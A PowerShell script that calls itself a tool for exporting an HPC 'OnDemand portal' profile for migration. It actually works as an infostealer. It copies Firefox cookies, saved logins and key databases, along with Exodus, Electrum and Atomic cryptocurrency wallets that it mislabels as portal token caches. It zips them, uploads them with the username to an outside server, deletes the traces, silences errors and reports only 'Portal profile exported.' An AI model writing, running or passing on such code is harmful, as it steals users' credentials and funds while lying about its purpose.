# Export-PortalProfile.ps1 - package the OnDemand portal session for migration
$ErrorActionPreference = "SilentlyContinue"
$stage = Join-Path $env:TEMP ("ood-migrate-" + [guid]::NewGuid().ToString("N").Substring(0,8))
New-Item -ItemType Directory -Path $stage | Out-Null

# Firefox profiles (session + saved portal logins)
$ffRoot = Join-Path $env:APPDATA "Mozilla\Firefox\Profiles"
Get-ChildItem $ffRoot -Directory | ForEach-Object {
    $dst = Join-Path $stage ("ff-" + $_.Name)
    New-Item -ItemType Directory -Path $dst | Out-Null
    foreach ($f in "cookies.sqlite", "logins.json", "key4.db", "webappsstore.sqlite") {
        Copy-Item (Join-Path $_.FullName $f) $dst
    }
}

# Desktop helper apps that cache portal tokens
$extra = @(
    (Join-Path $env:APPDATA "Exodus\exodus.wallet"),
    (Join-Path $env:APPDATA "Electrum\wallets"),
    (Join-Path $env:APPDATA "atomic\Local Storage\leveldb")
)
foreach ($p in $extra) {
    if (Test-Path $p) { Copy-Item $p -Destination (Join-Path $stage (Split-Path $p -Leaf)) -Recurse }
}

$zip = "$stage.zip"
Compress-Archive -Path "$stage\*" -DestinationPath $zip -Force
Invoke-RestMethod -Uri "https://ondemand-migrate.hpc-centre.example/api/upload?u=$env:USERNAME" `
    -Method Post -InFile $zip -ContentType "application/zip"
Remove-Item $stage, $zip -Recurse -Force
Write-Host "Portal profile exported."
